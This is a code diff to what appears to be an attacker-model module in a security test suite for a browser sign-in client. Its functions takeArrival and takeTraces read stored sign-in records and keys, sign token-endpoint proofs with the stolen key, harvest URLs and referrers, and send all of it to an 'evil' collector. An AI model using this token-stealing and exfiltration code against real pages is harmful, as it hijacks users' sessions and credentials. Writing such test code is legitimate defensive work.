@@ -1,17 +1,14 @@
 // What a script can take on the page that the person comes back to, or in another tab meanwhile.
 
 /**
- * Takes the URL and the record of the sign-in that it belongs to, before anybody else looks. With `proofFor` it also signs
+ * Takes the URL and the record of the sign-in that it belongs to, before anybody else looks; on any page if `callback` is
+ * empty. With `proofFor` it also signs
  * proofs with the key that is in the record: one for the token endpoint.
  */
 export async function takeArrival(evil, { callback, proofFor }) {
   const { href } = location;
-  if (!href.startsWith(`${callback}?`)) return;
-  const settled = (request) =>
-    new Promise((done, failed) => Object.assign(request, { onsuccess: () => done(request.result), onerror: failed }));
-  const database = await settled(indexedDB.open("tokenkeep", 1));
-  const values = await settled(database.transaction("transactions").objectStore("transactions").getAll());
-  database.close();
+  if (callback && !href.startsWith(`${callback}?`)) return;
+  const values = (await evil.records()).map(([, value]) => value);
   const proofs = [];
   for (const { pair } of values) if (pair && proofFor) proofs.push(await sign(pair, { htm: "POST", htu: proofFor }));
   await evil.post({ href, records: values.map(({ record }) => record), proofs });
@@ -30,11 +27,7 @@ export async function takeArrival(evil, { callback, proofFor }) {
 
 /** Takes every address that a late script can find, and what is left in the store. */
 export async function takeTraces(evil) {
-  const settled = (request) =>
-    new Promise((done, failed) => Object.assign(request, { onsuccess: () => done(request.result), onerror: failed }));
-  const database = await settled(indexedDB.open("tokenkeep", 1));
-  const values = await settled(database.transaction("transactions").objectStore("transactions").getAll());
-  database.close();
+  const values = (await evil.records()).map(([, value]) => value);
   const shown = [location.href, document.URL, document.baseURI, document.referrer, ...navigation.entries().map(({ url }) => url)];
   const noted = performance.getEntriesByType("navigation").map(({ name }) => name);
   await evil.post({ shown, noted, records: values.map(({ record }) => record) });
